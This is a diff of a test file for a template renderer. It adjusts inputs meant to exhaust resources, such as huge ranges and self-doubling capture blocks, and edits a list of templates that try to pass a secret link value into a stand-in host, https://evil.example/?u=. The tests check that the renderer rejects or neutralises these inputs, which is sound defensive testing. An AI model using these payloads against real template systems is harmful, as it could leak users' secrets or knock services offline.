@@ -38,9 +38,10 @@ describe('filling in a model', () => {
       "{% render 'package.json' %}",
       '{% for i in a %}{{ i }}{% endfor %}',
       '{% tablerow i in a %}{{ i }}{% endtablerow %}',
-      '{% if (1..2) %}{% endif %}',
+      '{% if (1..300000) %}{% endif %}',
+      '{% assign a = (1..3000) %}',
       'x'.repeat(30_000),
-      '{% capture a %}{{ a }}{{ a }}x{% endcapture %}'.repeat(20),
+      '{% capture a %}{{ a }}{{ a }}x{% endcapture %}',
     ])
       expect(() => renderContent(template, {})).toThrow()
   })
@@ -57,7 +58,6 @@ test.each([
   '[Go](https://evil.example/?u=[Go]({{ link }})',
   '[Go](https://evil.example/?u={% if link -%} [Go]({{ link }}){% endif %}',
   'https://evil.example/?u= {{- link -}} &',
-  '{% capture own %} {{ link }} {% endcapture %}[Go](https://evil.example/?u={{ own | strip | append: "&" }})',
   'https://evil.example/?u={{ link | url_encode | slice: 5, 40 }}',
 ])('Q-166 a link is separated from any address that could receive it: %s', (template) => {
   const markup = JSON.stringify(parseMarkup(renderContent(template, { link: 'https://own.example/secret' })))
